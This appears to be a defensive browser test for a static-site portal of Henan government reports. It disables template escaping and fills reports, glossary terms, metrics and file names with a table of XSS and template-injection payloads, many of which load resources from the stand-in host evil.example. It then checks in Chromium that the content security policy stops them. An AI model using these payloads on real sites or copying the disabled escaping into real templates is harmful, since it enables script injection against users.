"""Hostile content through the whole pipeline with escaping switched off in the page templates: what a browser
then runs, and whom it asks.

    .venv/bin/python tests/browser/hostile_site.py [FOLDER]

builds a portal from the table of vectors (every payload behind every breaker, in report text, headings,
tables, definitions, sidecars, file names, terms, metrics and hand-written pages), opens its pages in Chromium
and prints what ran, whom it asked and where it was led. Beside it stands what happens without the policy: a
vector that runs nowhere would prove nothing.
"""

import re
import shutil
import sys
import threading
from collections.abc import Iterable, Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

sys.path.insert(0, str(Path(__file__).parents[1]))
from patience import PATIENCE
from playwright.sync_api import Error

from site_builder.build import build
from site_builder.config import load_config

ROOT = Path(__file__).parents[2]
EVIL = "https://evil.example"
RUN = "hurt({n})"
PAYLOADS = (
    "<script>{run}</script>",
    "<script type=module>{run}</script>",
    "<script src={evil}/{n}.js></script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script src=source.txt></script>",
    "<script src={up}pages-{n}.js></script>",
    "<img src=x{n} onerror={run}>",
    "<img src={evil}/{n}.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><image href={evil}/{n}.svg /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<iframe src={evil}/{n}></iframe>",
    "<object data='data:text/html,<script>top.{run}</script>'></object>",
    "<embed src={evil}/{n}.swf>",
    "<a id=click href='javascript:{run}'>甲</a>",
    "<a id=click href='jAva&#9;script:{run}'>甲</a>",
    "<form action='javascript:{run}'><button id=click>甲</button></form>",
    "<form action={evil}/{n}><button id=click>甲</button></form>",
    "<details open ontoggle={run}><summary>甲</summary></details>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run} src=x{n}></video>",
    "<audio src={evil}/{n}.mp3 autoplay></audio>",
    "<link rel=stylesheet href={evil}/{n}.css>",
    "<link rel=modulepreload href={evil}/{n}.js>",
    "<style>@import '{evil}/{n}.css';</style>",
    '<p style="background:url({evil}/{n}.png)">甲</p>',
    "<base href={evil}/><script src={n}.js></script>",
    "<math><mtext><img src=x{n} onerror={run}></mtext></math>",
    "<template id=t{n}></template><script>document.body.append({run})</script>",
)
BREAKERS = ("", '">', "'>", "</title>", "</style></script></textarea>", "--><!--x-->", "{% endraw %}{{7*7}}")
"""What ends the place a text stands in before the payload begins"""
CITIES = (
    "郑州市",
    "开封市",
    "洛阳市",
    "平顶山市",
    "安阳市",
    "鹤壁市",
    "新乡市",
    "焦作市",
    "濮阳市",
    "许昌市",
    "漯河市",
    "三门峡市",
)
YEARS = range(2005, 2025)


class Vector(NamedTuple):
    """One hostile text."""

    number: int
    text: str


class Outcome(NamedTuple):
    """What happened on all pages."""

    ran: list[str]
    asked: list[str]
    pages: int


def vectors() -> list[Vector]:
    """Every payload behind every breaker."""
    texts = [breaker + payload for breaker in BREAKERS for payload in PAYLOADS]
    given = {"evil": EVIL, "up": "../../../"}
    out = []
    for number, text in enumerate(texts):
        for name, value in {**given, "run": RUN, "n": str(number)}.items():
            text = text.replace("{" + name + "}", value)
        out.append(Vector(number, text))
    return out


def make_project(folder: Path, chosen: Iterable[Vector]) -> Path:
    """A project full of them, with escaping switched off in every template of a page."""
    shutil.copytree(ROOT / "themes", folder / "themes")
    for name in ("indicators", "pages"):
        shutil.copytree(ROOT / "content" / name, folder / "content" / name)
    shutil.copy(ROOT / "content/places.yml", folder / "content/places.yml")
    shutil.copy(ROOT / "mkdocs.yml", folder / "mkdocs.yml")
    for template in (folder / "themes/portal").glob("*s/*.html"):
        if template.parent.name in ("pages", "macros"):
            template.write_text(unescaped(template.read_text(encoding="utf-8")), encoding="utf-8")
    (folder / "content/glossary").mkdir()
    chosen = list(chosen)
    for vector in chosen:
        _report(folder / "content/reports/河南省", vector)
    for vector in chosen[::4]:
        _term(folder / "content/glossary", vector)
    _metric(folder / "content/indicators/metrics.yml", chosen[-1])
    page = folder / "content/pages/about.md"
    page.write_text(
        page.read_text(encoding="utf-8")
        + "\n\n".join(["", *(each.text.replace("\n", " ") for each in chosen[:30])]),
        encoding="utf-8",
    )
    for vector in chosen:
        (folder / f"content/pages/pages-{vector.number}.js").write_text(
            f"hurt({vector.number})", encoding="utf-8"
        )
    return folder


def unescaped(template: str) -> str:
    """A template with escaping switched off, macros from within: what a careless hand would do."""
    if "{% macro" in template or "{%- macro" in template:
        inside = re.sub(r"(\{%-? macro [^%]*%\})", r"\1{% autoescape false %}", template)
        return re.sub(r"(\{%-? endmacro)", r"{% endautoescape %}\1", inside)
    return "{% autoescape false %}" + template + "{% endautoescape %}"


def _report(folder: Path, vector: Vector) -> None:
    """A report that is a script too: its own source text is a file of the site."""
    city, year = CITIES[vector.number % len(CITIES)], YEARS[vector.number // len(CITIES)]
    text = vector.text
    lines = [
        f"hurt({vector.number});/*",
        f"{city}{year}年法治政府建设年度报告",
        f"一、主要举措{text}",
        f"全年办结行政复议案件{year}件，{text}，同比增长5.6%。",
        f"（一）{text}",
        f"推动“{text}”落实，见《{text}》（豫政〔{year}〕3号）。",
        f"|指标{text}|数值|",
        "|---|---|",
        f"|行政复议{text}|{year}件|",
        "二、存在不足",
        f"一些单位{text}重视不够。",
        "名词解释",
        f"“双下降{text}”：指行政诉讼案件量和败诉率{text}。",
        "*/",
    ]
    (folder / city).mkdir(parents=True, exist_ok=True)
    name = f"{year}" if vector.number % 3 else f"{year} {text}".replace("/", "∕")[:60].strip()
    (folder / city / f"{name}.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    quoted = text.replace("'", "''")
    sidecar = [
        f"place: {city}",
        f"year: {year}",
        "kind: annual_report",
        f"title: '{year}年报告{quoted}'",
        f"issuer: '{city}司法局{quoted}'",
    ]
    sidecar += [f"document_number: '{quoted}'", f"licence: '{quoted}'"]
    sidecar += (
        [f"replace:\n- {{line: 11, from: 重视不够, to: 重视还不够, why: '{quoted}'}}"]
        if vector.number % 2
        else []
    )
    sidecar += [f"withheld: '正在核对{quoted}'"] if vector.number % 11 == 10 else []
    (folder / city / f"{name}.yml").write_text("\n".join(sidecar) + "\n", encoding="utf-8")


def _term(folder: Path, vector: Vector) -> None:
    quoted = vector.text.replace("'", "''")
    head = (
        f"term: '词{vector.number}{quoted}'\naliases: ['别名{vector.number}{quoted}']\ncategory:"
        f" '类{quoted}'\nsources: ['甲法{quoted}']\nslug: v{vector.number}"
    )
    (folder / f"词{vector.number}.md").write_text(
        f"---\n{head}\n---\n解释{vector.text}。\n", encoding="utf-8"
    )


def _metric(file: Path, vector: Vector) -> None:
    text, quoted = file.read_text(encoding="utf-8"), vector.text.replace("'", "''")
    file.write_text(
        re.sub(r"(?m)^( +)name: .*$", lambda m: f"{m[1]}name: '指标{quoted}'", text, count=1),
        encoding="utf-8",
    )


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


def pages_of(site: Path) -> Iterator[str]:
    """Addresses of the pages that show hostile content: every report, term and place, and some of each other
    part."""
    found: dict[str, list[str]] = {}
    for file in sorted(site.rglob("*.html")):
        address = file.relative_to(site).as_posix().removesuffix("index.html")
        found.setdefault(address.split("/")[0], []).append(address)
    for part, addresses in found.items():
        yield from (
            addresses
            if part in ("reports", "glossary", "places", "about")
            else addresses[:: max(1, len(addresses) // 8)]
        )


def visit_all(chromium: Any, site: Path, addresses: Iterable[str], *, bypass: bool = False) -> Outcome:
    """Open the pages one after the other, push what can be pushed, and write down what ran and who was asked."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    host = f"127.0.0.1:{server.server_port}"
    ran: list[str] = []
    asked: list[str] = []
    context = chromium.new_context(bypass_csp=bypass)
    context.expose_function("told", lambda number, at: ran.append(f"{urlsplit(at).path} {number}"))
    context.add_init_script(
        "Object.defineProperty(window, 'hurt', {value: n => { (window.top.told || window.told)(String(n),"
        " location.href); return ''; }})"
    )

    def routed(route: Any) -> None:
        request = route.request
        if urlsplit(request.url).netloc in (host, ""):
            route.continue_()
            return
        asked.append(f"{urlsplit(request.frame.url).path} {request.resource_type} {request.url}")
        route.fulfill(status=200, body="hurt('foreign')", content_type="text/javascript")

    context.route("**/*", routed)
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    count = 0
    for address in addresses:
        count += 1
        try:
            page.goto(f"http://{host}/{address}", wait_until="load")
            page.evaluate(
                "document.querySelectorAll('[id=click]').forEach(each => { try { each.click(); } catch {} })"
            )
            page.wait_for_timeout(60)
        except Error:
            if not bypass:  # without a policy a page may lead anywhere while it loads
                raise
    context.close()
    server.shutdown()
    server.server_close()
    return Outcome(ran, asked, count)


def build_hostile(folder: Path, chosen: Iterable[Vector]) -> Path:
    """The site made of them."""
    loaded = load_config(make_project(folder, chosen) / "mkdocs.yml", workers=1)
    build(loaded.config, loaded.problems)
    return loaded.config.site


def raw_vectors(site: Path, chosen: Iterable[Vector]) -> int:
    """How many of the vectors stand unescaped in a page."""
    pages = "\n".join(file.read_text(encoding="utf-8") for file in site.rglob("reports/**/index.html"))
    return sum(vector.text in pages for vector in chosen)


def main() -> int:
    import tempfile

    from playwright.sync_api import sync_playwright

    with tempfile.TemporaryDirectory() as made:
        folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(made) / "hostile"
        chosen = vectors()
        site = build_hostile(folder, chosen)
        addresses = list(pages_of(site))
        print(
            f"{len(chosen)} vectors, {raw_vectors(site, chosen)} of them unescaped in a report page,"
            f" {len(addresses)} pages"
        )
        with sync_playwright() as playwright:
            chromium = playwright.chromium.launch(
                executable_path=shutil.which("chromium"), args=["--no-sandbox"]
            )
            guarded = visit_all(chromium, site, addresses)
            print(f"with the policy: {len(guarded.ran)} ran, {len(guarded.asked)} requests to another host")
            print("\n".join([*guarded.ran[:20], *guarded.asked[:20]]))
            open_to_all = visit_all(chromium, site, addresses[::4], bypass=True)
            print(
                f"without it, every fourth page: {len(open_to_all.ran)} ran, {len(open_to_all.asked)}"
                " requests to another host"
            )
            chromium.close()
    return 1 if guarded.ran or guarded.asked else 0


if __name__ == "__main__":
    sys.exit(main())
